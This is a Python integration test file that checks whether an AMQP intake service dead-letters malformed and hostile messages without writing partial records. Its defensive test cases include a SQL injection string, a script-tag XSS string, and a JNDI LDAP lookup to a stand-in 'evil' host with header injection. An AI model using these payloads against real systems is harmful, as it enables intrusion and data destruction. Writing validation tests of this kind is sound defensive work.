"""Bad input on the AMQP ingress, on a real broker (issue 8, part 3).

A registered county system (its own broker user, `user_id` checked by the broker) publishes
wrong types, missing fields, huge bodies, invalid UTF-8, wrong content types, injection
strings, non-objects and unknown channels. Each one ends in `intake.ingress.dead` with the
reason in `x-reason` and a `rejected` result; the consumer keeps going (a valid message
afterwards is accepted); and nothing is half-written: no case, no source for any of them.
"""
from __future__ import annotations

import json

from kombu import Connection, Exchange, Producer, Queue
from sqlalchemy import func, select

from services.contracts.channels import MAX_SUBMISSION_BYTES
from services.intake.models import Case, Source
from tests.integration.test_intake_ingress import drain, fresh
from tests.integration.test_intake_ingress import system  # noqa: F401 - the fixture

USER = "county-all"
INGRESS = Exchange("intake.ingress", "topic", durable=True, no_declare=True)
JSON = "application/json"


def body(channel="hotline", suffix="X", **changes) -> bytes:
    return json.dumps(fresh(channel, suffix, **changes), ensure_ascii=False).encode("utf-8")


def bad_messages() -> list[dict]:
    """(message_id, routing key, body bytes, content type, encoding, the reason's code)."""
    huge = fresh("hotline", "HUGE")
    huge["content"] = "宅" * (MAX_SUBMISSION_BYTES // 3 + 10)
    cases = [
        # wrong types
        ("types-1", "hotline.submitted", body(caller_phone=13800001001, received_at=True), JSON, None, "invalid"),
        ("types-2", "grid.submitted", body("grid", parties="all of them", resolved_on_site="no"), JSON, None,
         "invalid"),
        ("types-3", "opinion.submitted", body("opinion", heat="hot", url=["x"]), JSON, None, "invalid"),
        # missing fields
        ("missing-1", "hotline.submitted", b"{}", JSON, None, "invalid"),
        ("missing-2", "petition.submitted",
         json.dumps({k: v for k, v in fresh("petition", "M").items() if k != "content"}).encode(), JSON, None,
         "invalid"),
        # huge bodies
        ("huge-1", "hotline.submitted", json.dumps(huge, ensure_ascii=False).encode("utf-8"), JSON, None,
         "too_large"),
        ("huge-2", "hotline.submitted", b" " * (MAX_SUBMISSION_BYTES + 1), JSON, None, "too_large"),
        # invalid UTF-8
        ("utf8-1", "hotline.submitted", b'{"order_no": "GD-\xff\xfe", "content": "\xc3\x28"}', JSON, None,
         "invalid"),
        ("utf8-2", "walkin.submitted", body("walkin")[:-3] + b"\xed\xa0\x80\"}", JSON, None, "invalid"),
        # wrong content types and encodings
        ("ctype-1", "hotline.submitted", body(suffix="C1"), "text/plain", None, "unsupported_media_type"),
        ("ctype-2", "hotline.submitted", b"<order/>", "application/xml", None, "unsupported_media_type"),
        ("ctype-3", "hotline.submitted", body(suffix="C3"), JSON, "gzip", "unsupported_media_type"),
        ("ctype-4", "hotline.submitted", body(suffix="C4"), "application/octet-stream", "binary",
         "unsupported_media_type"),
        # not JSON, or JSON that is not an object
        ("json-1", "hotline.submitted", b"{not json", JSON, None, "invalid"),
        ("json-2", "hotline.submitted", b"[1, 2, 3]", JSON, None, "invalid"),
        ("json-3", "hotline.submitted", b"null", JSON, None, "invalid"),
        ("json-4", "hotline.submitted", b'"' + b"a" * 100 + b'"', JSON, None, "invalid"),
        ("json-5", "hotline.submitted", b'{"a": ' * 5000 + b"1" + b"}" * 5000, JSON, None, "invalid"),
        # injection strings where only identifiers or controlled text are allowed
        ("inject-1", "hotline.submitted", body(order_no="GD'; DROP TABLE cases; --"), JSON, None, "invalid"),
        ("inject-2", "hotline.submitted", body(suffix="I2", caller_name="<script>\u202ealert(1)</script>\x00"),
         JSON, None, "invalid"),
        ("inject-3", "app.submitted", body("app", township="${jndi:ldap://evil/a}\r\nX-Header: 1"), JSON, None,
         "invalid"),
        # text no database can hold, where no schema looks: unknown fields' names are recorded
        ("nul-1", "hotline.submitted", body(suffix="N1", **{"note\u0000": 1}), JSON, None, "invalid"),
        ("nul-2", "hotline.submitted", body(suffix="N2", extra={"a": "x\u0000y"}), JSON, None, "invalid"),
        ("surrogate-1", "hotline.submitted", body(suffix="S1")[:-1] + b', "\\ud800": 1}', JSON, None, "invalid"),
        # unknown channels
        ("channel-1", "fax.submitted", body(suffix="F1"), JSON, None, "not_found"),
        ("channel-2", "HOTLINE.submitted", body(suffix="F2"), JSON, None, "not_found"),
        ("channel-3", "__proto__.submitted", body(suffix="F3"), JSON, None, "not_found"),
    ]
    return [dict(zip(("message_id", "routing_key", "body", "content_type", "encoding", "code"), c)) for c in cases]


def publish(uri: str, messages: list[dict]) -> None:
    with Connection(uri) as conn:
        producer = Producer(conn.default_channel)
        for m in messages:
            producer.publish(m["body"], exchange=INGRESS, routing_key=m["routing_key"], serializer=None,
                             content_type=m["content_type"], content_encoding=m["encoding"] or "utf-8",
                             message_id=m["message_id"], user_id=USER, delivery_mode=2)


def test_every_kind_of_bad_message_is_dead_lettered_with_a_reason_and_changes_nothing(system, amqp):  # noqa: F811
    uri = system["broker"].user(USER)
    results = Queue("test.results", exchange=Exchange("intake.ingress.results", "topic", durable=True),
                    routing_key="#", durable=False)
    results.declare(channel=amqp.default_channel)
    messages = bad_messages()
    publish(uri, messages)

    dead = {m.properties["message_id"]: m for m in drain(amqp, "intake.ingress.dead", len(messages), timeout=60)}
    assert set(dead) == {m["message_id"] for m in messages}
    for m in messages:
        reason = dead[m["message_id"]].headers["x-reason"]
        assert reason.startswith(f"{m['code']}: "), (m["message_id"], reason)
        assert dead[m["message_id"]].headers["x-original-queue"] == "intake.ingress"
        parked = dead[m["message_id"]].body  # kombu decodes a body declared utf-8 when it can
        assert (parked if isinstance(parked, bytes) else parked.encode("utf-8")) == m["body"]  # as it came
    answered = drain(amqp, "test.results", len(messages), timeout=30)
    assert {a.properties["correlation_id"] for a in answered} == {m["message_id"] for m in messages}
    assert all(a.delivery_info["routing_key"].endswith(".rejected") for a in answered)

    # the consumer is still there: a valid message afterwards is accepted
    publish(uri, [{"message_id": "valid-1", "routing_key": "hotline.submitted", "body": body(suffix="OK"),
                   "content_type": JSON, "encoding": None}])
    (accepted,) = drain(amqp, "test.results", 1, timeout=30)
    assert accepted.delivery_info["routing_key"] == f"{USER}.hotline.accepted"
    case_no = json.loads(accepted.body)["case_no"]

    # nothing half-written: the valid message's case and source, nothing else
    with system["intake_db"].reading() as session:
        assert session.scalar(select(func.count()).select_from(Case)) == 1
        assert list(session.scalars(select(Source.case_no))) == [case_no]


def test_a_poison_flood_does_not_starve_valid_messages(system, amqp):  # noqa: F811
    """200 bad messages interleaved with 20 valid ones: every valid one is accepted once."""
    uri = system["broker"].user(USER)
    results = Queue("test.results.flood", exchange=Exchange("intake.ingress.results", "topic", durable=True),
                    routing_key=f"{USER}.#", durable=False)
    results.declare(channel=amqp.default_channel)
    bad = bad_messages()
    stream = []
    for i in range(220):
        if i % 11 == 0:
            stream.append({"message_id": f"ok-{i}", "routing_key": "hotline.submitted", "content_type": JSON,
                           "encoding": None, "body": body(suffix=f"FLOOD{i}", content=f"第{i}号：邻居占用宅基地砌墙，多次协商未果。")})
        else:
            template = bad[i % len(bad)]
            stream.append({**template, "message_id": f"bad-{i}"})
    publish(uri, stream)
    answers = drain(amqp, "test.results.flood", len(stream), timeout=90)
    by_id = {a.properties["correlation_id"]: a.delivery_info["routing_key"].rsplit(".", 1)[1] for a in answers}
    assert len(by_id) == len(stream)
    assert {v for k, v in by_id.items() if k.startswith("ok-")} <= {"accepted", "merged"}
    assert {v for k, v in by_id.items() if k.startswith("bad-")} == {"rejected"}
    with system["intake_db"].reading() as session:
        assert session.scalar(select(func.count()).select_from(Source)) == 20
    assert len(drain(amqp, "intake.ingress.dead", 200, timeout=60)) == 200
    with Connection(uri) as conn:  # nothing left behind in the ingress queue
        assert conn.default_channel.queue_declare("intake.ingress", passive=True).message_count == 0


